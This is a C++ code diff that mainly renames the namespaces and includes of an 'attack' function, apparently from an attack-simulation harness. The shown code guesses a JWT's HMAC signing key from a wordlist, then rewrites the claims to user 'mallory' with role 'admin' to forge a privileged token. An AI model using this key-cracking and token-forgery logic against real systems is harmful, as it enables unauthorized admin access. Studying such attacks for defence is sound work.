@@ -1,6 +1,6 @@
 // Believes: the token that was found shows which claims it takes; only the role has to change.
+#include "base/base64url.hpp"
 #include "hmac_sha256.hpp"
-#include "jwt/base64url.hpp"
 #include "make_header.hpp"
 #include "sign_compact.hpp"
 #include "weak_signing_key.hpp"
@@ -16,12 +16,12 @@ Loot attack(const Evidence& evidence) {
   const auto signature = evidence.found_token.substr(last_dot + 1);
   for (const auto& word : evidence.words) {
     const Mac mac = hmac_sha256(bytes_of(word), bytes_of(signed_text));
-    if (jwt::base64url_encode(mac) == signature) loot.key = word;
+    if (base::base64url_encode(mac) == signature) loot.key = word;
   }
   if (loot.key.empty()) return loot;
 
   const auto first_dot = signed_text.find('.');
-  auto claims = jwt::Json::parse(jwt::base64url_decode_text(signed_text.substr(first_dot + 1)).value());
+  auto claims = json::Value::parse(base::base64url_decode_text(signed_text.substr(first_dot + 1)).value());
   claims.set("sub", "mallory");
   claims.set("role", "admin");
   const auto header = make_header(), payload = claims.dump();
